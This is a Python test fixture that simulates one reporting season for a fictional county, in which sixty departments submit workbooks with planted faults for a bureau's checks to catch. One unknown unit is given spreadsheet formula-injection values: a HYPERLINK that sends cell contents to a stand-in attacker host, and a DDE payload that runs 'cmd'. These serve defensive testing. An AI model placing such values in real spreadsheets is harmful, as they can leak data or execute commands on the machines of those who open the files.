"""One season of the made-up county: sixty departments hand in, each in its own way, some of them wrongly.

Who does what is data here; what the bureau must find of each follows from it and from nothing else.
"""

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass, replace
from functools import cached_property
from typing import Any, Literal

from tests.support.county.departments import Department, department, departments
from tests.support.county.mould import Formula, workbook
from tests.support.county.plantings import (
    ENTRIES,
    FILES,
    STRUCTURES,
    Planting,
    copied,
    paraphrased,
    perfect,
)

COUNT, ROSTER = 60, 62
STRANGER = 63
"""A unit that nobody has on the roster."""

Way = Literal["finished", "with errors", "altered", "as it is"]
"""Finished by perfxl; finished with errors and a reason; changed after that; the bare workbook."""

REASON = "个别数字正在与业务部门核对，先行报送。"

_COPIES, _PARAPHRASES = {5: 2}, {11: 8}
_PERFECT = 4
_ALTERED, _TWICE = 6, 7
ALTERATION = ("满意份数", 1)
"""What one department changes after it has finished."""
_UNDERSTOOD = frozenset({"full-width digits", "a unit behind a number", "thousands separators as text"})
"""Faults whose meaning is beyond doubt: the bureau counts with what was meant."""
_LOST = {"a sheet removed": "重点工作", "all names of a sheet lost": "项目清单"}
_REFUSED = frozenset({"a negative count", "a score beyond the indicator's points"})
"""Numbers that cannot be: they count for nothing."""
_TABLES = {"项目": "项目清单", "重点工作": "重点工作", "成效": "成效"}
_TABLE_CELL = re.compile(r"(?P<prefix>\w+)_(?P<column>\w+)\[(?P<row>\d+)\]")
STRANGE_NAME = '=HYPERLINK("http://evil.invalid/?"&A1,"示例县领奖局")'
_WITH_ERRORS = (3, 24)
_FINISHED = (2, 5, 8, 10, 14, 60)
"""Nothing is planted into these; of the others all finish into which nothing is."""
_OTHERWISE = (_PERFECT, _TWICE, *_FINISHED)
"""What they do besides is enough: they send no unreadable file first."""
_LEFT_OUT = frozenset(
    {
        "thousands separators as text",
        "a formula that gives an error",
        "a formula without its result",
        "a date that is none",
        "a negative count",
        "another unit",
        "the year's end out of balance",
        "an amount that no table has",
        "points lost without a reason",
    }
)
"""What is left to the tests of single workbooks, so that some Guangdong departments stay sound."""


@dataclass(frozen=True)
class Sender:
    """One department, what it does wrong, and the way in which it hands in."""

    department: Department
    planting: Planting | None = None
    way: Way = "as it is"

    @property
    def name(self) -> str:
        return self.department.name

    @property
    def file(self) -> bytes:
        """The workbook that it has filled in."""
        return self.planting.plant(self.department) if self.planting else workbook(self.department)

    @property
    def sound(self) -> bool:
        """Whether nothing at all is wrong with what it sends."""
        return self.planting is None and self.way != "altered"


@dataclass(frozen=True)
class Season:
    """All senders by their numbers, and the files that cannot be read, which some of them send first."""

    senders: tuple[Sender, ...]
    unreadable: tuple[tuple[Department, Planting], ...]

    @cached_property
    def counted(self) -> tuple[Department, ...]:
        """What the last workbook of each tells, faults and all: what the summary is about."""
        return (*map(as_told, self.senders), stranger())

    def roster(self) -> str:
        """The roster: 62 units, as CSV."""
        text = io.StringIO()
        rows = csv.writer(text)
        rows.writerow(("单位名称", "预算编码", "主管股室", "单位类别"))
        for one in departments(ROSTER):
            kind = "行政单位" if one.name.endswith("局") else "事业单位"
            rows.writerow((one.name, one.values.get("预算编码", ""), f"第{one.number % 4 + 1}股", kind))
        return text.getvalue()


def season() -> Season:
    """The season; the same whenever it is asked for."""
    senders = tuple(_senders())
    sound = [one.department for one in senders if one.sound and one.department.number not in _OTHERWISE]
    return Season(senders, tuple(zip(sound, FILES, strict=False)))


def _senders() -> Iterator[Sender]:
    faults = iter(one for one in (*ENTRIES, *STRUCTURES) if one.name not in _LEFT_OUT)
    for one in map(_writing, departments(COUNT)):
        if one.number in _OTHERWISE:
            yield Sender(one, way="finished")
        elif one.number == _ALTERED:
            yield Sender(one, way="altered")
        elif one.scheme_id == "guangdong-county-2020" and (fault := next(faults, None)):
            told = fault in ENTRIES and one.number in _WITH_ERRORS
            yield Sender(one, fault, "with errors" if told else "as it is")
        else:
            yield Sender(one, way="finished")


def _writing(one: Department) -> Department:
    """The department with what it has copied from others, or made perfect."""
    if one.number in _COPIES:
        return copied(one, department(_COPIES[one.number]))
    if one.number in _PARAPHRASES:
        return paraphrased(one, department(_PARAPHRASES[one.number]))
    return perfect(one) if one.number == _PERFECT else one


def stranger() -> Department:
    """Nobody knows it, and it would like its name and its texts to be run as formulas."""
    one = department(STRANGER)
    texts = (
        {"标题": "=cmd|' /C calc'!A0", "内容": "+HYPERLINK(A1)&SUM(1)：全年办理事项326件，群众反映良好。"},
    )
    values = dict(one.values) | {"部门名称": STRANGE_NAME, "预算编码": "=1+1"}
    return replace(one, values=values, tables=dict(one.tables) | {"成效": texts})


def as_told(sender: Sender) -> Department:
    """What the workbook tells: the department's entries, but for those that its fault has changed or lost."""
    one, fault = sender.department, sender.planting
    if sender.way == "altered":
        return replace(one, values=dict(one.values) | dict([ALTERATION]))
    if fault is None:
        return one
    values, tables = dict(one.values), dict(one.tables)
    for name, edit in fault.edits(one).items():
        told = None if fault.name in _REFUSED else _told(edit, values.get(name), fault)
        if cell := _TABLE_CELL.fullmatch(name):
            table = _TABLES[cell["prefix"]]
            rows = [dict(row) for row in tables[table]]
            rows[int(cell["row"]) - 1][cell["column"]] = told
            tables[table] = tuple(rows)
        elif name in values:
            values[name] = told
    lost = _LOST.get(fault.name)
    return replace(one, values=values, tables=tables | ({lost: None} if lost else {}))


def _told(edit: Any, before: Any, fault: Planting) -> Any:
    """What a cell tells that holds ``edit`` where a proper value of the kind of ``before`` belongs."""
    if fault.name in _UNDERSTOOD:
        return before
    if isinstance(edit, Formula):
        edit = None if str(edit.value).startswith("#") else edit.value
    if isinstance(before, int | float) and not isinstance(edit, int | float):
        return None
    return edit


def first_version(sender: Sender) -> Sender:
    """What the department that sends twice sends first."""
    fault = next(one for one in ENTRIES if one.name == "a cross-footing broken by two cents")
    return replace(sender, planting=fault, way="as it is")


TWICE = _TWICE
